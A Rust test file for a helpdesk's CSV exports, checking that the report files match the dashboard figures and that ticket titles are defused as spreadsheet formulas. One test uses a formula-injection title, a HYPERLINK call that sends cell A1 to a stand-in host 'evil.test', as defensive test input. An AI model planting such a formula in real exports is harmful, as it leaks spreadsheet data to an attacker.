//! CSV downloads: RFC 4180 files whose figures are the dashboard's, and ticket
//! titles that cannot run as spreadsheet formulas.

use crate::fixture::{fixture, RANGE};
use crate::helpers::raise;
use crate::support::TestResponse;
use serde_json::Value;

/// The rows of an RFC 4180 file (quoted fields with doubled quotes, CRLF).
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut field = String::new();
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\r') => {
                assert_eq!(chars.next(), Some('\n'), "CR only before LF");
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => field.push(c),
        }
    }
    assert!(
        field.is_empty() && row.is_empty(),
        "the file ends with CRLF"
    );
    rows
}

fn csv(r: &TestResponse) -> Vec<Vec<String>> {
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(r.header("Content-Type"), Some("text/csv; charset=utf-8"));
    let disposition = r.header("Content-Disposition").unwrap_or_default();
    assert!(
        disposition.starts_with("attachment; filename=\"helpdesk-")
            && disposition.ends_with(".csv\""),
        "{disposition}"
    );
    parse_csv(&r.text())
}

#[test]
fn each_series_file_holds_the_dashboards_values() {
    let mut f = fixture();
    for metric in ["created", "resolved", "reopened", "backlog"] {
        let json = f
            .desk
            .admin
            .get(&format!("/api/reports/series?metric={metric}&{RANGE}"))
            .json();
        let rows = csv(&f
            .desk
            .admin
            .get(&format!("/api/reports/series.csv?metric={metric}&{RANGE}")));
        assert_eq!(rows[0], ["date", metric]);
        let from_json: Vec<Vec<String>> = json["points"]
            .as_array()
            .unwrap()
            .iter()
            .map(|p| {
                vec![
                    p["date"].as_str().unwrap().to_string(),
                    p["value"].to_string(),
                ]
            })
            .collect();
        assert_eq!(rows[1..], from_json[..], "{metric}");
    }
}

#[test]
fn the_summary_file_holds_the_dashboards_figures() {
    let mut f = fixture();
    let s = f
        .desk
        .admin
        .get(&format!("/api/reports/summary?{RANGE}"))
        .json();
    let rows = csv(&f
        .desk
        .admin
        .get(&format!("/api/reports/summary.csv?{RANGE}")));
    assert_eq!(rows[0], ["figure", "value"]);
    let figure = |name: &str| -> String {
        rows.iter()
            .find(|r| r[0] == name)
            .unwrap_or_else(|| panic!("no row {name}"))[1]
            .clone()
    };
    // Numbers compare as numbers (JSON writes 1.0 where the file has 1).
    let text = |v: &Value| match v {
        Value::Null => String::new(),
        Value::String(s) => s.clone(),
        Value::Number(n) => n.as_f64().map_or(n.to_string(), |f| f.to_string()),
        v => v.to_string(),
    };
    for name in [
        "from",
        "to",
        "created",
        "resolved",
        "closed",
        "reopened",
        "reopen_rate",
        "backlog_start",
        "backlog_end",
        "open_total",
        "open_unassigned",
        "sla_met_share",
        "deflections",
        "time_zone",
        "time_basis",
    ] {
        assert_eq!(figure(name), text(&s[name]), "{name}");
    }
    for kind in ["first_response", "resolution"] {
        for part in ["done", "met", "met_share"] {
            assert_eq!(
                figure(&format!("sla_{kind}_{part}")),
                text(&s["sla"][kind][part]),
                "sla {kind} {part}"
            );
        }
    }
    for part in ["good", "bad", "good_share"] {
        assert_eq!(
            figure(&format!("satisfaction_{part}")),
            text(&s["satisfaction"][part]),
            "satisfaction {part}"
        );
    }
    for d in ["first_response", "resolution"] {
        for part in ["count", "median_ms", "p90_ms"] {
            assert_eq!(
                figure(&format!("{d}_{part}")),
                text(&s[d][part]),
                "{d}_{part}"
            );
        }
    }
    assert_eq!(
        figure("created"),
        "4",
        "and the figure is the hand-worked one"
    );
}

#[test]
fn breakdown_files_match_the_summarys_breakdowns() {
    let mut f = fixture();
    let s = f
        .desk
        .admin
        .get(&format!("/api/reports/summary?{RANGE}"))
        .json();
    let rows = csv(&f
        .desk
        .admin
        .get(&format!("/api/reports/breakdown.csv?by=category&{RANGE}")));
    assert_eq!(rows[0], ["category", "created"]);
    let from_json: Vec<Vec<String>> = s["by_category"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| {
            vec![
                c["name"].as_str().unwrap().to_string(),
                c["count"].to_string(),
            ]
        })
        .collect();
    assert_eq!(rows[1..], from_json[..]);
    let rows = csv(&f
        .desk
        .admin
        .get(&format!("/api/reports/breakdown.csv?by=priority&{RANGE}")));
    assert_eq!(rows.len(), 5);
    let rows = csv(&f
        .desk
        .admin
        .get(&format!("/api/reports/breakdown.csv?by=agent&{RANGE}")));
    assert_eq!(
        rows,
        [
            ["agent", "open"],
            ["Tom Tier-One", "1"],
            ["(unassigned)", "1"]
        ]
    );
}

#[test]
fn the_ticket_list_file_follows_the_lists_filters_and_defuses_formulas() {
    let mut f = fixture();
    let n = raise(
        &mut f.desk.alice,
        "=HYPERLINK(\"http://evil.test/?\"&A1, \"Click\")",
    );
    raise(&mut f.desk.alice, "+1 555 0100 calls, \"urgent\"");
    let rows = csv(&f.desk.agent1.get("/api/tickets.csv?sort=number&dir=asc"));
    assert_eq!(rows[0][..3], ["number", "title", "status"]);
    assert_eq!(rows.len(), 1 + 7, "the fixture's 5 and these 2");
    let evil = rows.iter().find(|r| r[0] == n.to_string()).unwrap();
    assert_eq!(evil[1], "'=HYPERLINK(\"http://evil.test/?\"&A1, \"Click\")");
    assert_eq!(rows[7][1], "'+1 555 0100 calls, \"urgent\"");
    assert!(rows.iter().skip(1).all(|r| r.len() == 11));
    assert_eq!(rows[1][9].len(), "2026-03-01T12:00:00Z".len());
    assert_eq!(rows[1][9], "2026-03-01T12:00:00Z", "T5, created D-1 12:00");
    // The list's filters apply: only urgent tickets.
    let rows = csv(&f.desk.agent1.get("/api/tickets.csv?priority=urgent"));
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[1][3], "urgent");
    let r = f.desk.agent1.get("/api/tickets.csv?status=lost");
    assert_eq!(r.status, 422);
}
